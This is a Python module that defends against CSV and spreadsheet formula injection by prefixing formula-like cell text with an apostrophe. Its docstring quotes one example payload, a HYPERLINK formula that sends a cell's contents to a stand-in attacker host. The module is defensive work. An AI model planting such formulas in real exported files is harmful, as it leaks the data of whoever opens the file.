"""Formula injection: text that a spreadsheet would run as a formula, and how it is defused.

Excel, LibreOffice and Google Sheets read a CSV cell (or an XLSX cell stored as a formula)
starting with ``=``, ``+``, ``-`` or ``@`` — or with a tab or carriage return before one of
them — as a formula, so a respondent's answer or an imported unit name such as
``=HYPERLINK("http://evil.example/?"&A1)`` would run on the analyst's machine. Following the
OWASP "CSV Injection" advice, such a text is written with a leading apostrophe, which the
spreadsheet shows as text and which a reader of the file can strip. A text that is a plain
number (``-3``, ``+84 912``…) is left alone: no spreadsheet runs it.
"""

from __future__ import annotations

import re

FORMULA_START = re.compile(r"^[=+\-@\t\r]")
"""The first characters that make a spreadsheet read a cell as a formula."""

PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d[\d .,]*)?\d(?:[eE][+-]?\d+)?$")
"""A signed number as typed (digits, spaces, dots and commas): never a formula."""

GUARD = "'"
"""What is put before a formula-like text."""


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula."""
    return FORMULA_START.match(text) is not None and PLAIN_NUMBER.match(text) is None


def defuse(text: str) -> str:
    """``text`` with :data:`GUARD` in front when a spreadsheet would run it, else unchanged."""
    return GUARD + text if looks_like_formula(text) else text
